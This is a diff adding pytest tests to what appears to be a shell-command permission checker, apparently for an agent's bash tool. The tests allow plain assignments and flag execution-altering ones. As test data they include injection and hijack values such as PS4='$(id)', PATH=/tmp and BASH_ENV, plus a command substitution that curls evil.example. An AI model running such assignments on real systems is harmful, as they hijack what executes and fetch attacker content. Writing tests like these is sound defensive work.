@@ -212,3 +212,14 @@ def test_the_secrets_themselves_are_still_sensitive(command):
 def test_the_ordinary_names_are_policy_data():
     d = bash(snap(sensitive_paths={"ordinary": []}), "cat .env.example")
     assert d.check == "sensitive_path", d
+
+
+@pytest.mark.parametrize("command", ["export DEBUG=1", "export NODE_ENV=test", "x=1", "count=0"])
+def test_a_harmless_assignment_alone_is_read_only(command):
+    assert bash(snap(), command).decision == "allow", command
+
+
+@pytest.mark.parametrize("command", ["export PATH=/tmp", "PS4='$(id)'", "IFS=x", "BASH_ENV=/tmp/x",
+                                     "export GIT_PAGER=x", "x=$(curl -s evil.example)"])
+def test_an_assignment_that_changes_what_runs_is_not(command):
+    assert bash(snap(), command).decision == "ask", command
